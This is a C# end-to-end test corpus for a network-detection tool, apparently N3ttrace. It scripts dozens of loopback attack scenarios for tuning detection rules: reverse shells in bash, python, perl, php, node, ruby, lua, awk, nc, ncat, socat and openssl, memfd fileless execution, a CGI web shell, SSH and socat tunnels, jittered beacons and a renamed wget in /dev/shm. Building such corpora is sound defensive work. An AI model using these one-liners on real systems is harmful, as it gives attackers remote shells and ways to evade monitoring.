using System.Globalization;
using N3ttrace.EndToEnd.Tests.Scenarios;
using static N3ttrace.EndToEnd.Tests.Scenarios.ScenarioListener;

namespace N3ttrace.EndToEnd.Tests.Corpora;

/// <summary>The TUNING two thirds of the attack corpus: rules may be tuned against these (fixed before any tuning).</summary>
internal static partial class AttackCorpus
{
    private const string Py = "/usr/bin/python3";

    public static IReadOnlyList<AttackScenario> Tuning { get; } =
    [
        // ---- interactive shells ----
        new("a01", "bash -i with stdio on /dev/tcp", "bash", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Bash(e => $"bash -i >& /dev/tcp/127.0.0.1/{e.P} 0>&1")),

        new("a03", "/dev/tcp socket read and written by cat, sh between two pipes", "bash+dash", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Bash(e => $"exec 3<>/dev/tcp/127.0.0.1/{e.P}; cat <&3 | /bin/sh 2>&1 | cat >&3")),

        new("a04", "python dup2 of a socket onto 0-2, subprocess sh -i", "python", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => [Py, "-c", $"import socket,subprocess,os\ns=socket.create_connection(('127.0.0.1',{e.P}))\n" +
                "for f in (0,1,2): os.dup2(s.fileno(),f)\nsubprocess.call(['/bin/sh','-i'])"])),

        new("a05", "python pty.spawn of sh over a socket", "python", Wiring.Pty, AttackKind.Shell, Mode.Shell,
            Run(e => [Py, "-c", $"import socket,os,pty\ns=socket.create_connection(('127.0.0.1',{e.P}))\n" +
                "for f in (0,1,2): os.dup2(s.fileno(),f)\npty.spawn('/bin/sh')"])),

        new("a07", "perl Socket, STDIN/OUT/ERR reopened on it, exec sh -i", "perl", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/perl", "-e",
                "use Socket;$p=" + e.P + ";socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));" +
                "if(connect(S,sockaddr_in($p,inet_aton('127.0.0.1')))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');};"])),

        new("a10", "ruby TCPSocket, each line run by IO.popen, output sent back", "ruby", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/ruby", "-rsocket", "-e",
                $"c=TCPSocket.new('127.0.0.1',{e.P}); while(cmd=c.gets); IO.popen(cmd,'r'){{|io| c.print io.read}}; end"])),

        new("a11", "php fsockopen, exec sh -i with fd 3 on 0-2", "php", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/php", "-r", $"$s=fsockopen('127.0.0.1',{e.P});exec('/bin/sh -i <&3 >&3 2>&3');"])),

        new("a12", "php proc_open sh with pipes, php relays socket <-> pipes", "php", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/php", "-r",
                $"$s=fsockopen('127.0.0.1',{e.P});$p=proc_open('/bin/sh',[0=>['pipe','r'],1=>['pipe','w'],2=>['pipe','w']],$io);" +
                "stream_set_blocking($io[1],false);stream_set_blocking($io[2],false);" +
                "while(!feof($s)){$r=[$s,$io[1],$io[2]];$w=null;$x=null;if(stream_select($r,$w,$x,1)===false)break;" +
                "foreach($r as $h){$d=fread($h,4096);if($h===$s){if($d===''||$d===false)break 2;fwrite($io[0],$d);}else if($d!==''&&$d!==false){fwrite($s,$d);}}}"])),

        new("a13", "node net.connect, spawn sh, socket piped to its stdin/stdout", "node", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/node", "-e",
                $"const n=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',[]);" +
                $"const c=n.connect({e.P},'127.0.0.1',()=>{{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);}});" +
                "c.on('error',()=>process.exit(0));sh.on('exit',()=>c.end());"])),

        new("a15", "lua luasocket, each line run by io.popen, output sent back", "lua", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/lua5.4", "-e",
                $"local s=require('socket').tcp(); assert(s:connect('127.0.0.1',{e.P})); " +
                "while true do local l=s:receive('*l'); if not l then break end; local f=io.popen(l,'r'); s:send(f:read('*a')); f:close() end"])),

        new("a16", "gawk /inet/tcp coprocess, each line run through a command coprocess", "gawk", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/gawk",
                $"BEGIN{{s=\"/inet/tcp/0/127.0.0.1/{e.P}\"; while((s |& getline c)>0){{ while((c |& getline l)>0) print l |& s; close(c) }} }}"])),

        new("a17", "nc.openbsd with stdin from a FIFO, mawk system() on its output, into the FIFO", "mawk+nc.openbsd", Wiring.Fifo, AttackKind.Shell, Mode.Shell,
            Sh(e => $"rm -f q; mkfifo q; /usr/bin/nc.openbsd 127.0.0.1 {e.P} < q | /usr/bin/mawk -W interactive '{{system($0)}}' > q 2>&1")),

        new("a19", "/dev/tcp socket read by cat, busybox awk system() in a pipe", "busybox awk", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Bash(e => $"exec 3<>/dev/tcp/127.0.0.1/{e.P}; cat <&3 | /usr/bin/busybox awk '{{system($0)}}' >&3 2>&3")),

        new("a20", "openssl s_client (TLS) with sh -i through a FIFO", "openssl", Wiring.Fifo, AttackKind.Shell, Mode.TlsShell,
            Sh(e => $"rm -f q; mkfifo q; /bin/sh -i < q 2>&1 | /usr/bin/openssl s_client -quiet -connect 127.0.0.1:{e.P} > q 2>/dev/null")),

        new("a21", "socat TCP to EXEC:/bin/sh", "socat", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/socat", $"TCP:127.0.0.1:{e.P}", "EXEC:/bin/sh"])),

        new("a23", "nc.traditional -e /bin/sh", "nc.traditional", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/nc.traditional", "-e", "/bin/sh", "127.0.0.1", e.P])),

        new("a25", "ncat --sh-exec", "ncat", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => ["/usr/bin/ncat", "127.0.0.1", e.P, "--sh-exec", "exec /bin/sh -i"])),

        // busybox's telnet: inetutils telnet buffers what it receives when its stdout is a pipe, so it cannot carry a pipe shell.
        new("a26", "telnet with stdin from a FIFO, sh on its output, into the FIFO", "telnet (busybox)", Wiring.Fifo, AttackKind.Shell, Mode.Shell,
            Sh(e => $"rm -f q; mkfifo q; /usr/bin/busybox telnet 127.0.0.1 {e.P} < q | /bin/sh > q 2>&1")),

        new("a28", "compiled C: connect, dup2 onto 0-2, execv sh -i", "C (gcc)", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            async e =>
            {
                var bin = await CompileAsync(e, ConnectExecC, "resolver");
                await Contexts.RunAsync([bin, e.P], Timeout, e.Dir);
            }),

        new("a30", "python memfd_create: copy of the system sh executed from memory on a socket", "memfd (python+dash)", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            Run(e => [Py, "-c", MemfdExec("/bin/dash", "['sh','-i']",
                $"s=socket.create_connection(('127.0.0.1',{e.P}))\nfor i in (0,1,2): os.dup2(s.fileno(),i)")])),

        new("a33", "script(1) gives sh -i a pty; script's stdio is a /dev/tcp socket", "script (util-linux)", Wiring.Pty, AttackKind.Shell, Mode.Shell,
            Bash(e => $"exec 3<>/dev/tcp/127.0.0.1/{e.P}; /usr/bin/script -qfc '/bin/sh -i' /dev/null <&3 >&3 2>&3")),

        new("a34", "web server CGI child opens a shell back (server descendant)", "python http.server + bash", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            WebShell),

        new("a35", "double-forked setsid shell on /dev/tcp, launcher exits at once", "bash+dash", Wiring.Socket, AttackKind.Shell, Mode.Shell,
            async e =>
            {
                await Contexts.RunAsync(["/bin/bash", "-c",
                    $"( setsid bash -c 'sleep 0.5; exec 3<>/dev/tcp/127.0.0.1/{e.P}; exec /bin/sh -i <&3 >&3 2>&3' & ); exit 0"], TimeSpan.FromSeconds(5), e.Dir);
                await e.Listener.WaitAccepted(1, TimeSpan.FromSeconds(10));
                await Task.Delay(5500);
            }),

        // Added in the second round (after held-out set 2 was fixed), for the shapes the walk through relays and the
        // multi-call applet rule cover: a multi-call binary's shell, two relaying hops, a pty owner behind a pipe.
        new("a36", "busybox sh -s reading a FIFO, its output piped to socat STDIO, into the FIFO", "busybox sh+socat", Wiring.Fifo, AttackKind.Shell, Mode.Shell,
            Sh(e => $"rm -f q; mkfifo q; /usr/bin/busybox sh -s < q 2>&1 | /usr/bin/socat - TCP:127.0.0.1:{e.P} > q")),

        new("a37", "sh behind relays: nc.traditional < q | dd | sh | tee > q", "dd+tee+nc.traditional", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
            Sh(e => $"rm -f q; mkfifo q; /usr/bin/nc.traditional 127.0.0.1 {e.P} < q | /bin/dd bs=1 status=none | /bin/sh 2>&1 | /usr/bin/tee /dev/null > q")),

        new("a38", "script(1) behind a pipe: socat STDIO < q | script -qfc /bin/sh > q (the shell on script's pty)", "script+socat", Wiring.Pty, AttackKind.Shell, Mode.Shell,
            Sh(e => $"rm -f q; mkfifo q; /usr/bin/socat - TCP:127.0.0.1:{e.P} < q | /usr/bin/script -qfc /bin/sh /dev/null > q 2>&1")),

        // ---- tunnels and relays ----
        new("t01", "ssh -R remote forward to a real loopback sshd, traffic through it", "ssh", Wiring.Relay, AttackKind.Tunnel, Mode.Hold,
            e => SshTunnel(e, remote => ["-N", "-R", $"{remote}:127.0.0.1:{e.P}"], (remote, _) => ScenarioEnv.DriveAsync(remote, TimeSpan.FromSeconds(4), TimeSpan.FromSeconds(15)))),

        new("t02", "ssh -L local forward through a real loopback sshd", "ssh", Wiring.Relay, AttackKind.Tunnel, Mode.Hold,
            e => SshTunnel(e, local => ["-N", "-L", $"{local}:127.0.0.1:{e.P}"], (local, _) => ScenarioEnv.DriveAsync(local, TimeSpan.FromSeconds(4), TimeSpan.FromSeconds(15)))),

        new("t04", "socat TCP-LISTEN relay to the far end (one process inbound and outbound)", "socat", Wiring.Relay, AttackKind.Tunnel, Mode.Hold,
            async e =>
            {
                var inbound = ScenarioEnv.FreePort();
                var relay = Contexts.RunAsync(["/usr/bin/socat", $"TCP-LISTEN:{inbound},bind=127.0.0.1,reuseaddr", $"TCP:127.0.0.1:{e.P}"], Timeout, e.Dir);
                await ScenarioEnv.DriveAsync(inbound, TimeSpan.FromSeconds(4), TimeSpan.FromSeconds(10));
                await relay;
            }),

        new("t06", "ncat listener whose --sh-exec runs ncat to the far end", "ncat", Wiring.Relay, AttackKind.Tunnel, Mode.Hold,
            async e =>
            {
                var inbound = ScenarioEnv.FreePort();
                var relay = Contexts.RunAsync(["/usr/bin/ncat", "-l", "127.0.0.1", inbound.ToString(CultureInfo.InvariantCulture),
                    "--sh-exec", $"/usr/bin/ncat 127.0.0.1 {e.P}"], Timeout, e.Dir);
                await ScenarioEnv.DriveAsync(inbound, TimeSpan.FromSeconds(4), TimeSpan.FromSeconds(10));
                await relay;
            }),

        // ---- beacons ----
        new("b01", $"sh loop: curl every {BeaconSeconds} s +-20%, {BeaconCalls} calls", "curl+sh", Wiring.None, AttackKind.Beacon, Mode.Http,
            Sh(e => $"for i in $(seq {BeaconCalls}); do /usr/bin/curl -s -o /dev/null http://127.0.0.1:{e.P}/c; {JitterSleep}; done")),

        new("b03", $"node http.get every {BeaconSeconds} s +-20%, {BeaconCalls} calls", "node", Wiring.None, AttackKind.Beacon, Mode.Http,
            Run(e => ["/usr/bin/node", "-e",
                $"const h=require('http');let n=0;const t=()=>{{h.get('http://127.0.0.1:{e.P}/s',r=>{{r.resume();}}).on('error',()=>{{}});" +
                $"if(++n<{BeaconCalls})setTimeout(t,{BeaconSeconds.ToString(CultureInfo.InvariantCulture)}*1000*(0.8+0.4*Math.random()));}};t();"])),

        // ---- other: payloads that only fetch ----
        new("o01", "curl copied into a memfd and executed from memory", "memfd (python+curl)", Wiring.None, AttackKind.Other, Mode.Http,
            Run(e => [Py, "-c", MemfdExec("/usr/bin/curl", $"['curl','-s','-o','/dev/null','http://127.0.0.1:{e.P}/p']")])),

        new("o02", "wget copied into /dev/shm under a neutral name, fetching", "wget (copied)", Wiring.None, AttackKind.Other, Mode.Http,
            async e =>
            {
                var copy = $"/dev/shm/sync-{Guid.NewGuid().ToString("N")[..6]}";
                File.Copy("/usr/bin/wget", copy);
                File.SetUnixFileMode(copy, (UnixFileMode)0x1ED);
                try
                {
                    await Contexts.RunAsync([copy, "-q", "-O", "/dev/null", "-t", "1", $"http://127.0.0.1:{e.P}/x"], Timeout, e.Dir);
                }
                finally
                {
                    File.Delete(copy);
                }
            }),
    ];

    /// <summary>A real loopback sshd, an ssh client holding a forward through it, and traffic driven through the forward.</summary>
    private static async Task SshTunnel(ScenarioEnv e, Func<int, string[]> forward, Func<int, Sshd, Task> drive)
    {
        await using var sshd = await Sshd.StartAsync(e.File("sshd"));
        e.JudgedPorts.Add(sshd.Port);
        var port = ScenarioEnv.FreePort();
        using var client = Contexts.Start(["/usr/bin/ssh", .. sshd.ClientArgs, .. forward(port), "root@127.0.0.1"], e.Dir);
        try
        {
            await drive(port, sshd);
        }
        finally
        {
            client.Kill(entireProcessTree: true);
            await client.WaitForExitAsync();
        }
    }

    /// <summary>python's http.server with CGI: a request makes the server fork a CGI script that opens a shell back.</summary>
    private static async Task WebShell(ScenarioEnv e)
    {
        var www = Directory.CreateDirectory(e.File("www")).FullName;
        var cgi = Directory.CreateDirectory(Path.Combine(www, "cgi-bin")).FullName;
        var script = Path.Combine(cgi, "status.sh");
        File.WriteAllText(script, $"#!/bin/bash\necho 'Content-Type: text/plain'\necho\nexec 3<>/dev/tcp/127.0.0.1/{e.P}\n/bin/sh -i <&3 >&3 2>&3\necho done\n");
        foreach (var p in new[] { e.Dir, www, cgi, script })
        {
            File.SetUnixFileMode(p, (UnixFileMode)0x1ED); // the CGI child runs as nobody
        }
        var port = ScenarioEnv.FreePort();
        using var server = Contexts.Start([Py, "-m", "http.server", "--cgi", "--bind", "127.0.0.1", port.ToString(CultureInfo.InvariantCulture)], www);
        try
        {
            using var http = new HttpClient { Timeout = TimeSpan.FromSeconds(15) };
            for (var i = 0; i < 50; i++)
            {
                try
                {
                    await http.GetStringAsync(new Uri($"http://127.0.0.1:{port}/cgi-bin/status.sh"));
                    break;
                }
                catch (HttpRequestException)
                {
                    await Task.Delay(100);
                }
                catch (TaskCanceledException)
                {
                    break;
                }
            }
            await e.Listener.WaitAccepted(1, TimeSpan.FromSeconds(5));
        }
        finally
        {
            server.Kill(entireProcessTree: true);
        }
    }
}
